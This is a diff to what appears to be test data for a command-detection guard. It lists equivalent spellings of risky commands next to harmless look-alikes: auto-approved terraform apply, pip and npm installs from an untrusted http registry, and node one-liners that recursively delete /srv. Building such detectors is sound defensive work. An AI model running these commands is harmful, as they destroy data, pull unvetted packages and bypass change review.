@@ -254,4 +254,35 @@ export const SPELLINGS: readonly Spelling[] = [
     ],
     twins: ["redis-cli -hprod -n0 ping"],
   },
+  {
+    same: [
+      "terraform apply -auto-approve",
+      "TF_CLI_ARGS_apply=-auto-approve terraform apply",
+    ],
+    twins: ["terraform plan -lock=false"],
+  },
+  {
+    same: [
+      "pip install --index-url http://203.0.113.9 x",
+      "pip install -ihttp://203.0.113.9 x",
+      "PIP_INDEX_URL=http://203.0.113.9 pip install x",
+    ],
+    twins: ["PIP_INDEX_URL=https://pypi.org/simple pip install x"],
+  },
+  {
+    same: [
+      "npm install --registry http://203.0.113.9 x",
+      "npm_config_registry=http://203.0.113.9 npm install x",
+    ],
+    twins: ["npm install --save-dev x"],
+  },
+  {
+    same: [
+      `node -e 'require("fs").rmSync("/srv",{recursive:true})'`,
+      `node --eval='require("fs").rmSync("/srv",{recursive:true})'`,
+      `node -pe 'require("fs").rmSync("/srv",{recursive:true})'`,
+      `node -p 'require("fs").rmSync("/srv",{recursive:true})'`,
+    ],
+    twins: ["node -p process.version", "node -pe 1+1"],
+  },
 ];
